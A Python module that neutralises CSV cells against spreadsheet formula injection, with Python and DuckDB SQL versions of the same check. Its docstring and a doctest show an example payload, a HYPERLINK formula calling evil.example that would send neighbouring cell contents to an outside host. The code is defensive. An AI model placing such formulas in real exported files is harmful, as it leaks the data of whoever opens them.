"""Cells of the CSV files backplan writes, made safe to open in a spreadsheet.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by Excel, LibreOffice and Google Sheets ("CSV injection"):
``=HYPERLINK("http://evil.example/?"&A1)`` in a rejected row would send the
neighbouring cells to a stranger when an admin opens the rejects file. As
OWASP advises, such a cell is written with a single quote in front, so the
spreadsheet shows it as text. A plain number (``-500``, ``+33.5``) stays as it
is: a spreadsheet reads it as the number it is, and runs nothing.

Every CSV writer goes through here: ``neutralise`` for Python writers,
``copy_csv`` for DuckDB's ``COPY ... TO`` (which applies ``neutralise_sql`` to
each text column).

    >>> neutralise('=HYPERLINK("http://evil.example")')
    '\\'=HYPERLINK("http://evil.example")'
    >>> neutralise("-500")
    '-500'
"""

from __future__ import annotations

import re
from pathlib import Path

import duckdb

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""
PLAIN_NUMBER = r"^[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?$"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet should show it: text, never a formula."""
    if cell.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(cell):
        return "'" + cell
    return cell


def neutralise_sql(expression: str) -> str:
    """DuckDB SQL doing what ``neutralise`` does, for a VARCHAR expression."""
    return (
        f"CASE WHEN regexp_matches({expression}, '^[=+@\\t\\r-]') "
        f"AND NOT regexp_matches({expression}, '{PLAIN_NUMBER}') "
        f"THEN '''' || {expression} ELSE {expression} END"
    )


def copy_csv(con: duckdb.DuckDBPyConnection, query: str, target: Path) -> None:
    """Write the rows of ``query`` to ``target`` as CSV with a header, text cells neutralised."""
    columns = con.execute(f"DESCRIBE SELECT * FROM ({query})").fetchall()
    cells = ", ".join(
        f"{neutralise_sql(_quote(name))} AS {_quote(name)}"
        if str(kind).upper() == "VARCHAR"
        else _quote(name)
        for name, kind, *_ in columns
    )
    con.execute(
        f"COPY (SELECT {cells} FROM ({query})) TO '{_text(str(target))}' (FORMAT csv, HEADER true)"
    )


def _quote(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _text(value: str) -> str:
    return value.replace("'", "''")
